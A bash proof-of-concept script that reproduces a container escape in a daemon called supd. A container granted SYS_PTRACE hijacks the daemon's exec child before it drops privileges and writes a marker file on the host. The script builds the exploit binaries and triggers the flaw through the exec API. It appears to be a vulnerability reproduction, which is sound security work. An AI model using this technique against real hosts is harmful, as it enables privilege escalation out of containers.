#!/usr/bin/env bash
# Reproduction: a container started with --cap-add SYS_PTRACE takes over supd's exec child
# before it has dropped supd's privileges, and writes a file on the host.
# Needs: a running supd at $SUPD (e.g. http://127.0.0.1:PORT) with token $TOKEN (exec on app
# "atk"), Docker, the local image supd-test-busybox:latest, a C compiler with static libc.
set -euo pipefail
cd "$(dirname "$0")"
: "${SUPD:?}" "${TOKEN:?}"
name=atk-ptrace-$$
cc -static -O2 -o hunter hunter.c
cc -static -O2 -o pwn pwn.c
docker build -q -t supd-attack-ptrace:latest . >/dev/null
rm -f /tmp/supd-attack-PWNED
docker run -d --name "$name" --label supd.attack=1 \
  --label io.supd.application=atk --label io.supd.service=ptrace --label io.supd.instance=1 \
  --label io.supd.container=c --cap-add SYS_PTRACE \
  supd-attack-ptrace:latest sh -c \
  'truncate -s 4G /etc/passwd; /hunter 2>/hunter.log & exec sleep 1000000' >/dev/null
trap 'docker rm -f "$name" >/dev/null; rm -f hunter pwn' EXIT
sleep 2
# The operator runs an ordinary command in the container (a few times at most).
for i in 1 2 3; do
  curl -s -H "Authorization: Bearer $TOKEN" -d 'cmd: id' \
    "$SUPD/v1/state/applications/atk/service-instances/ptrace-1/containers/c/exec"; echo
  [ -e /tmp/supd-attack-PWNED ] && break
done
sleep 1
echo "--- /hunter.log (container)"; docker cp "$name":/hunter.log - | tar xO
echo "--- /pwn.log (container)"; docker cp "$name":/pwn.log - | tar xO || true
echo "--- host /tmp/supd-attack-PWNED"; cat /tmp/supd-attack-PWNED
